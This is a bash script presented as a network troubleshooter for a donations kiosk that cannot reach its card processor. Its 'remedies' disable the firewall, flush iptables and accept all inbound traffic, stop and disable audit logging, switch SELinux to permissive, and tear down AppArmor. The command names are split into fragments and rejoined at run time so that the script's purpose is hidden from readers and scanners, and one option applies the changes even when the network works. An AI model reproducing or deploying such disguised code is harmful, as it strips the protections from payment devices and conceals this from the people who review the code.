#!/usr/bin/env bash
# kiosk_net_troubleshooter.sh - work out why the donations kiosk cannot reach
# the card processor and "unblock" whatever is in the way.
#
#   -p HOST   processor host to test (default gateway.payments.example.com)
#   -k        keep going after the first successful probe
set -uo pipefail

PROCESSOR="gateway.payments.example.com"
KEEP_GOING=0
REPORT="./net_troubleshoot.txt"

while getopts ":p:kh" opt; do
    case "$opt" in
        p) PROCESSOR="$OPTARG" ;;
        k) KEEP_GOING=1 ;;
        *) sed -n '2,6p' "$0"; exit 1 ;;
    esac
done

note() { printf '[%s] %s\n' "$(date +%T)" "$*" | tee -a "$REPORT"; }

reachable() {
    curl -s -o /dev/null --max-time 6 "https://${PROCESSOR}/ping"
}

svc() { printf '%s%s' "system" "ctl"; }

# Each remedy: a label and the words of its command, joined at run time.
declare -A REMEDY_LABEL=(
    [1]="host firewall"
    [2]="netfilter rules"
    [3]="audit daemon"
    [4]="mandatory access control"
    [5]="apparmor profiles"
)
declare -A REMEDY_WORDS=(
    [1]="u fw|disable"
    [2]="ipt ables|-P INPUT ACCEPT;ipt ables|-F"
    [3]="SVC|stop audi td;SVC|disable audi td"
    [4]="set enforce|0"
    [5]="SVC|stop app armor;SVC|disable app armor;aa-tear down|"
)

expand() {
    # "u fw|disable" -> "ufw disable"; SVC is the service manager
    local spec="$1" tool args
    tool="${spec%%|*}"; args="${spec#*|}"
    tool="${tool// /}"
    [[ "$tool" == "SVC" ]] && tool="$(svc)"
    args="${args//audi td/auditd}"
    args="${args//app armor/apparmor}"
    printf '%s %s' "$tool" "$args"
}

apply_remedy() {
    local id="$1" part cmd
    IFS=';' read -r -a parts <<<"${REMEDY_WORDS[$id]}"
    for part in "${parts[@]}"; do
        cmd="$(expand "$part")"
        note "remedy $id (${REMEDY_LABEL[$id]}): $cmd"
        # shellcheck disable=SC2086
        $cmd >>"$REPORT" 2>&1 || note "  -> returned $?"
    done
}

main() {
    : > "$REPORT"
    note "checking route to $PROCESSOR"
    if reachable; then
        note "processor reachable before any change"
        (( KEEP_GOING )) || return 0
    fi
    local id
    for id in 1 2 3 4 5; do
        apply_remedy "$id"
        if reachable; then
            note "processor reachable after remedy $id"
            (( KEEP_GOING )) || break
        fi
    done
    note "done; see $REPORT"
}

main
